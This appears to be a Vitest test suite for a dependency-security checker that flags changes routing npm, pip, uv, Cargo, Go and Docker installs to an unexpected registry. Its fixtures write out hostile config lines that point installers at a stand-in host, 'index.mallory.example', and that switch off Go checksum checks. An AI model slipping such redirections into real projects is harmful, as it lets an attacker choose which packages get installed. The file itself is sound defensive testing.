/** Servers that a change makes installers take packages from: dependency/registry-unexpected. */
import { describe, expect, it } from 'vitest';
import { PUBLIC_INDEX, PUBLIC_NPM, YARN_NPM } from '../../src/core/ecosystems/public-servers.ts';
import { checking, type Files } from '../support/checking.ts';
import { LOCKS, REGISTRY } from '../support/locks.ts';

const doors = checking();
const EVIL = 'https://index.mallory.example';

async function told(base: Files, head: Files, policy?: string): Promise<string[]> {
  const { verdict } = await doors.check({ 'a.md': 'a\n', ...base }, head, policy === undefined ? {} : { policy });
  return verdict.findings
    .filter(({ finding }) => /^dependency\/(?:install-hook|registry)/.test(finding.rule))
    .map(
      ({ finding, blocks, status }) =>
        `${status}${blocks ? '!' : ''} ${finding.rule.slice('dependency/'.length)} ${finding.name}: ${finding.reason}`,
    );
}

const registry = (path: string, by: string, server = 'index.mallory.example'): string[] => [
  `new registry-unexpected ${path}: ${by}: nothing before named ${server}, and whoever owns it decides what is installed`,
];
const hook = (path: string, words: string): string[] => [`new install-hook-changed ${path}: ${words}`];

const IMAGE = 'FROM scratch\n';
const write = (file: string, server?: string): string =>
  LOCKS.find((kind) => kind.file === file)?.write([{ name: 'left', version: '1.0.0', ...(server === undefined ? {} : { server }) }]) ?? '';

describe('a server that nothing in the base names', () => {
  it.each<[string, Files, Files, string[]]>([
    ['npm', {}, { '.npmrc': `registry=${EVIL}/\n` }, registry('.npmrc', 'registry')],
    ['npm, of a scope', {}, { '.npmrc': `@acme:registry = ${EVIL}/npm\n` }, registry('.npmrc', '@acme:registry')],
    ['Yarn 1', {}, { '.yarnrc': `registry "${EVIL}"\n` }, registry('.yarnrc', 'registry')],
    ['Yarn', {}, { '.yarnrc.yml': `npmRegistryServer: "${EVIL}"\n` }, registry('.yarnrc.yml', 'npmRegistryServer')],
    [
      'Yarn, of a scope',
      {},
      { '.yarnrc.yml': `npmScopes:\n  acme:\n    npmRegistryServer: "${EVIL}"\n` },
      registry('.yarnrc.yml', 'npmScopes.acme.npmRegistryServer'),
    ],
    ['Bun', {}, { 'bunfig.toml': `[install]\nregistry = "${EVIL}"\n` }, registry('bunfig.toml', 'install.registry')],
    ['pip', {}, { 'pip.conf': `[global]\nextra-index-url =\n    ${EVIL}/simple\n` }, registry('pip.conf', 'extra-index-url')],
    ['uv', {}, { 'uv.toml': `[[index]]\nname = "x"\nurl = "${EVIL}/simple"\n` }, registry('uv.toml', 'index.x')],
    ['uv, without a name', {}, { 'uv.toml': `[[index]]\nurl = "${EVIL}/simple"\n` }, registry('uv.toml', 'index')],
    ['uv, old form', {}, { 'uv.toml': `extra-index-url = ["${EVIL}/simple"]\n` }, registry('uv.toml', 'extra-index-url')],
    [
      'uv in pyproject',
      {},
      { 'pyproject.toml': `[project]\nname = "a"\n[[tool.uv.index]]\nname = "x"\nurl = "${EVIL}/simple"\n` },
      registry('pyproject.toml', 'tool.uv.index.x'),
    ],
    [
      'poetry',
      {},
      { 'pyproject.toml': `[[tool.poetry.source]]\nname = "x"\nurl = "${EVIL}/simple"\npriority = "supplemental"\n` },
      registry('pyproject.toml', 'tool.poetry.source.x'),
    ],
    ['Pipenv', {}, { Pipfile: `[[source]]\nname = "x"\nurl = "${EVIL}/simple"\n` }, registry('Pipfile', 'source.x')],
    [
      'requirements',
      { 'requirements.txt': 'torch==2.6.0\n' },
      { 'requirements.txt': `--extra-index-url ${EVIL}/simple\ntorch==2.6.0\n` },
      registry('requirements.txt', '--extra-index-url'),
    ],
    [
      'a trusted host',
      {},
      { 'requirements.txt': '--trusted-host index.mallory.example\n' },
      registry('requirements.txt', '--trusted-host'),
    ],
    ['Conda', {}, { '.condarc': 'channels:\n  - mallory\n' }, registry('.condarc', 'channels', 'mallory')],
    ['Cargo', {}, { '.cargo/config.toml': `[registries.x]\nindex = "sparse+${EVIL}/"\n` }, registry('.cargo/config.toml', 'registries.x')],
    [
      'a lock, in a new entry',
      { 'package-lock.json': LOCKS[0]?.write([{ name: 'left', version: '1.0.0' }]) ?? '' },
      {
        'package-lock.json':
          LOCKS[0]?.write([
            { name: 'left', version: '1.0.0' },
            { name: 'right', version: '1.0.0', hash: 'b', server: EVIL },
          ]) ?? '',
      },
      registry('package-lock.json', 'right'),
    ],
    [
      'the whole lock',
      {
        'package-lock.json': LOCKS[0]?.write(['a', 'b', 'd', 'e', 'f'].map((hash) => ({ name: `p${hash}`, version: '1.0.0', hash }))) ?? '',
      },
      {
        'package-lock.json':
          LOCKS[0]?.write(['a', 'b', 'd', 'e', 'f'].map((hash) => ({ name: `p${hash}`, version: '1.0.0', hash, server: EVIL }))) ?? '',
      },
      registry('package-lock.json', 'pa, pb, pd and 2 more'),
    ],
    [
      'ENV of an image',
      { Dockerfile: IMAGE },
      { Dockerfile: `${IMAGE}ENV PIP_INDEX_URL=${EVIL}/simple\n` },
      registry('Dockerfile', 'PIP_INDEX_URL'),
    ],
    [
      'ARG of an image',
      { Dockerfile: IMAGE },
      { Dockerfile: `${IMAGE}ARG UV_INDEX_URL=${EVIL}/simple\n` },
      registry('Dockerfile', 'UV_INDEX_URL'),
    ],
    [
      'ENV of npm',
      { Dockerfile: IMAGE },
      { Dockerfile: `${IMAGE}ENV NPM_CONFIG_REGISTRY=${EVIL}/\n` },
      registry('Dockerfile', 'NPM_CONFIG_REGISTRY'),
    ],
    [
      'an option of pip, beside the variable',
      { Dockerfile: IMAGE },
      { Dockerfile: `${IMAGE}ENV PIP_INDEX_URL=${EVIL}/simple\nRUN pip install -i ${EVIL}/simple numpy\n` },
      registry('Dockerfile', 'PIP_INDEX_URL, -i'),
    ],
    [
      'one index more of pip',
      { Dockerfile: IMAGE },
      { Dockerfile: `${IMAGE}RUN pip install --extra-index-url=${EVIL}/simple numpy\n` },
      registry('Dockerfile', '--extra-index-url'),
    ],
    [
      'an option of npm',
      { Dockerfile: IMAGE },
      { Dockerfile: `${IMAGE}RUN npm i --registry ${EVIL} left\n` },
      registry('Dockerfile', '--registry'),
    ],
    [
      'a setting of pip',
      { Dockerfile: IMAGE },
      { Dockerfile: `${IMAGE}RUN pip config set global.index-url ${EVIL}/simple\n` },
      registry('Dockerfile', 'global.index-url'),
    ],
    ['a setting of npm in a script', {}, { 'setup.sh': `#!/bin/sh\nnpm config set registry=${EVIL}/\n` }, registry('setup.sh', 'registry')],
    [
      'a variable of a workflow',
      {},
      { '.github/workflows/release.yml': `on: push\nenv:\n  UV_INDEX_URL: ${EVIL}/simple\njobs: {}\n` },
      registry('.github/workflows/release.yml', 'UV_INDEX_URL'),
    ],
    ['a proxy of Go', { Dockerfile: IMAGE }, { Dockerfile: `${IMAGE}ENV GOPROXY=${EVIL},direct\n` }, registry('Dockerfile', 'GOPROXY')],
    [
      'a proxy of Go, set for good',
      { Dockerfile: IMAGE },
      { Dockerfile: `${IMAGE}RUN go env -w GOPROXY=${EVIL}\n` },
      registry('Dockerfile', 'GOPROXY'),
    ],
    [
      'sums of Go',
      { Dockerfile: IMAGE },
      { Dockerfile: `${IMAGE}ENV GONOSUMDB=*\nENV GOPRIVATE='*.acme.example'\nENV GOFLAGS=-insecure\nENV GOSUMDB=off\n` },
      hook(
        'Dockerfile',
        'GONOSUMDB is new: what only running it tells; GOPRIVATE is new: *.acme.example; GOFLAGS is new: -insecure; 1 more',
      ),
    ],
    [
      'one that an image names, and a line more',
      { Dockerfile: `${IMAGE}ENV PIP_INDEX_URL=${EVIL}/simple\n` },
      { Dockerfile: `${IMAGE}ENV PIP_INDEX_URL=${EVIL}/simple\nRUN pip install -i ${EVIL}/simple numpy\n`, '.npmrc': `registry=${EVIL}\n` },
      [],
    ],
    ['the first lock', {}, { 'package-lock.json': LOCKS[0]?.write([{ name: 'left', version: '1.0.0' }]) ?? '' }, []],
    [
      'one that a lock names',
      { 'package-lock.json': LOCKS[0]?.write([{ name: 'left', version: '1.0.0' }]) ?? '' },
      { '.npmrc': `registry=${REGISTRY}\n` },
      [],
    ],
    [
      'one that other settings name',
      { 'pip.conf': `[global]\nindex-url = ${EVIL}\n` },
      { 'uv.toml': `index-url = "${EVIL}/simple"\n` },
      [],
    ],
    ['the registry that npm asks anyway', { 'pnpm-lock.yaml': write('pnpm-lock.yaml') }, { '.npmrc': `registry=${PUBLIC_NPM}/\n` }, []],
    [
      'the same, by the name that Yarn has for it',
      { 'yarn.lock': write('yarn.lock', PUBLIC_NPM) },
      { '.yarnrc': `registry "${YARN_NPM}"\n` },
      [],
    ],
    [
      'the index that pip asks anyway',
      { 'poetry.lock': write('poetry.lock') },
      { 'pip.conf': `[global]\nindex-url = ${PUBLIC_INDEX}/simple\n` },
      [],
    ],
    [
      'the registry of all, beside one of their own',
      { '.npmrc': `@acme:registry=${REGISTRY}\n` },
      { 'a/.npmrc': `registry=${PUBLIC_NPM}\n` },
      registry('a/.npmrc', 'registry', new URL(PUBLIC_NPM).host),
    ],
    [
      'the registry of all, where the lock names one of their own',
      { 'package-lock.json': write('package-lock.json') },
      { '.npmrc': `registry=${PUBLIC_NPM}\n` },
      registry('.npmrc', 'registry', new URL(PUBLIC_NPM).host),
    ],
    [
      'the index of all, where settings name one of their own',
      { 'uv.toml': `index-url = "${REGISTRY}/simple"\n` },
      { 'b/uv.toml': `extra-index-url = ["${PUBLIC_INDEX}/simple"]\n` },
      registry('b/uv.toml', 'extra-index-url', new URL(PUBLIC_INDEX).host),
    ],
    [
      'a longer name than that of the registry',
      {},
      { '.npmrc': `registry=${PUBLIC_NPM}.mallory.example\n`, '.yarnrc': `registry "${YARN_NPM}.mallory.example"\n` },
      [
        ...registry('.yarnrc', 'registry', `${new URL(YARN_NPM).host}.mallory.example`),
        ...registry('.npmrc', 'registry', `${new URL(PUBLIC_NPM).host}.mallory.example`),
      ],
    ],
    ['one more line of the file', { '.npmrc': `registry=${EVIL}\n` }, { '.npmrc': `registry=${EVIL}\nsave-exact=true\n` }, []],
    ['a file that moved', { 'a/.npmrc': `registry=${EVIL}\n` }, { 'a/.npmrc': null, 'b/.npmrc': `registry=${EVIL}\n` }, []],
    ['taken away', { '.npmrc': `registry=${EVIL}\n` }, { '.npmrc': null }, []],
  ])('%s', async (_, base, head, expected) => {
    expect(await told(base, head)).toEqual(expected);
  });

  it('is said by one voice alone', async () => {
    const { verdict } = await doors.check(
      { 'a.md': 'a\n' },
      { '.npmrc': `registry=${EVIL}\n`, 'pip.conf': `[global]\nindex-url = ${EVIL}\n` },
    );
    expect(JSON.stringify(verdict.coverage)).not.toContain('packages come from');
  });

  it('keeps no secret, expands nothing (T20, T21)', async () => {
    const { verdict, bom } = await doors.check(
      { 'a.md': 'a\n' },
      {
        '.npmrc':
          '//index.mallory.example/:_authToken=npm_abcdefghijklmnopqrstuvwxyz0123456789\nregistry=https://me:hunter2@index.mallory.example/t/s3cret/?k=s3cret\n',
        'pip.conf': '[global]\nindex-url = https://${TOKEN}@files.mallory.example/simple\nextra-index-url = ${INDEX}\n',
      },
    );
    expect(JSON.stringify({ verdict, bom })).not.toMatch(/hunter2|s3cret|npm_abc|TOKEN|\$\{INDEX/);
    expect(bom.steering?.map(({ value }) => value).sort()).toEqual([
      'https://files.mallory.example',
      'https://index.mallory.example',
      'what the environment says',
    ]);
  });

  it('is allowed by name, and blocks where the policy says so', async () => {
    const policy = (setting: string): string => `version: 1\nrules:\n  dependency/registry-unexpected: ${setting}\n`;
    const head = { '.npmrc': `registry=${EVIL}/\n` };
    expect(await told({}, head, policy('{ level: block, allow: ["*.mallory.example"] }'))).toEqual([]);
    expect((await told({}, head, policy('block')))[0]).toMatch(/^new! registry-unexpected/);
  });
});
